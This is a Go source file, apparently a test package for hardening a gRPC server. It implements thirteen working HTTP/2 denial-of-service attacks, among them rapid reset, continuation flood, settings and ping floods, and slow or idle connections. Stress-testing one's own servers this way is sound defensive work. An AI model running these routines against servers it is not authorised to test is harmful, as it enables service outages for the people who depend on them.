// Copyright The krmfn Authors
// SPDX-License-Identifier: Apache-2.0

package hostiletest

import (
	"context"
	"errors"
	"io"
	"net"
	"sync"

	"golang.org/x/net/http2"
)

// Attack attacks a server. It returns after sending everything. Its connections stay open until ctx ends; if the server closes
// them earlier, that is not an error.
type Attack func(ctx context.Context, t Target) error

// Attacks are all attacks by name.
var Attacks = map[string]Attack{
	"huge headers":       HugeHeaders,
	"headers only":       HeadersOnly,
	"no first message":   NoFirstMessage,
	"slow messages":      SlowMessages,
	"tiny frames":        TinyFrames,
	"empty frames":       EmptyFrames,
	"continuation flood": ContinuationFlood,
	"rapid reset":        RapidReset,
	"settings flood":     SettingsFlood,
	"ping flood":         PingFlood,
	"refused calls":      RefusedCalls,
	"idle connections":   IdleConnections,
	"half a preface":     HalfPreface,
}

// HugeHeaders begins calls with 8 MiB of metadata each.
func HugeHeaders(ctx context.Context, t Target) error {
	return t.many(ctx, 8, false, func(c *client) error {
		return repeat(8, func() error { return c.begin(8 << 20) })
	})
}

// HeadersOnly begins many calls with almost the maximum amount of metadata that servers accept, and sends no message.
func HeadersOnly(ctx context.Context, t Target) error {
	return t.many(ctx, 16, false, func(c *client) error {
		block := c.block("POST", 3000)
		return repeat(1000, func() error { return c.send(block) })
	})
}

// NoFirstMessage begins many calls and sends no message.
func NoFirstMessage(ctx context.Context, t Target) error {
	return t.many(ctx, 32, false, func(c *client) error {
		block := c.block("POST", 0)
		return repeat(1000, func() error { return c.send(block) })
	})
}

// SlowMessages begins many calls and sends the first 60,000 bytes of a larger message in each.
func SlowMessages(ctx context.Context, t Target) error {
	part := make([]byte, 15_000)
	return t.many(ctx, 32, false, func(c *client) error {
		block := c.block("POST", 0)
		return repeat(200, func() error {
			if err := errors.Join(c.send(block), c.announce(1<<20)); err != nil {
				return err
			}
			return repeat(4, func() error { return c.framer.WriteData(c.stream, false, part) })
		})
	})
}

// TinyFrames sends large messages in one-byte frames, as fast as the server reads them.
func TinyFrames(ctx context.Context, t Target) error {
	return t.many(ctx, 8, false, func(c *client) error {
		if err := errors.Join(c.begin(0), c.announce(5<<20), c.buffer.Flush()); err != nil {
			return err
		}
		select {
		case <-c.extended:
		case <-ctx.Done():
		}
		return repeat(100_000, func() error { return c.framer.WriteData(c.stream, false, []byte{0}) })
	})
}

// EmptyFrames sends empty data frames.
func EmptyFrames(ctx context.Context, t Target) error {
	return t.many(ctx, 4, false, func(c *client) error {
		if err := c.begin(0); err != nil {
			return err
		}
		return repeat(50_000, func() error { return c.framer.WriteData(c.stream, false, nil) })
	})
}

// ContinuationFlood sends endless continuation frames of headers.
func ContinuationFlood(ctx context.Context, t Target) error {
	return t.many(ctx, 4, false, func(c *client) error {
		err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.block("POST", 0)})
		if err != nil {
			return err
		}
		return repeat(50_000, func() error { return c.framer.WriteContinuation(1, false, nil) })
	})
}

// RapidReset begins calls and immediately cancels them.
func RapidReset(ctx context.Context, t Target) error {
	return t.many(ctx, 4, false, func(c *client) error {
		block := c.block("POST", 0)
		return repeat(20_000, func() error {
			return errors.Join(c.send(block), c.framer.WriteRSTStream(c.stream, http2.ErrCodeCancel))
		})
	})
}

// SettingsFlood fills the server's buffers with responses that it does not read, and sends large settings frames.
func SettingsFlood(ctx context.Context, t Target) error {
	settings := make([]http2.Setting, 2500)
	for i := range settings {
		settings[i] = http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 100}
	}
	return t.many(ctx, 4, true, func(c *client) error {
		block := c.block("GET", 0)
		return repeat(5000, func() error { return errors.Join(c.send(block), c.framer.WriteSettings(settings...)) })
	})
}

// PingFlood sends pings and does not read their acknowledgements.
func PingFlood(ctx context.Context, t Target) error {
	return t.many(ctx, 4, true, func(c *client) error {
		return repeat(50_000, func() error { return c.framer.WritePing(false, [8]byte{1}) })
	})
}

// RefusedCalls begins calls that gRPC servers reject because of their headers, and does not read the responses.
func RefusedCalls(ctx context.Context, t Target) error {
	return t.many(ctx, 8, true, func(c *client) error {
		block := c.block("GET", 0)
		return repeat(20_000, func() error { return c.send(block) })
	})
}

// IdleConnections opens connections and begins no call.
func IdleConnections(ctx context.Context, t Target) error {
	return t.many(ctx, 300, false, func(*client) error { return nil })
}

// HalfPreface opens connections and does not complete the HTTP/2 handshake.
func HalfPreface(ctx context.Context, t Target) error {
	return each(300, func() error {
		c, err := t.dial(ctx, false)
		if err == nil {
			_, err = c.Write([]byte(http2.ClientPreface[:12]))
		}
		return ended(err)
	})
}

// many runs an attack on several connections concurrently.
func (t Target) many(ctx context.Context, connections int, deaf bool, attack func(*client) error) error {
	return each(connections, func() error {
		c, err := t.connect(ctx, deaf)
		if err == nil {
			err = errors.Join(attack(c), c.buffer.Flush())
		}
		return ended(err)
	})
}

// each runs n calls of a function concurrently and joins their errors.
func each(n int, run func() error) error {
	errs := make([]error, n)
	var all sync.WaitGroup
	for i := range errs {
		all.Go(func() { errs[i] = run() })
	}
	all.Wait()
	return errors.Join(errs...)
}

// repeat calls a function n times, or until it fails.
func repeat(n int, run func() error) error {
	for range n {
		if err := run(); err != nil {
			return err
		}
	}
	return nil
}

// ended returns nil for errors that mean that the connection has ended. Other errors are bugs in the attack.
func ended(err error) error {
	if errors.As(err, new(net.Error)) || errors.Is(err, net.ErrClosed) || errors.Is(err, io.EOF) {
		return nil
	}
	return err
}
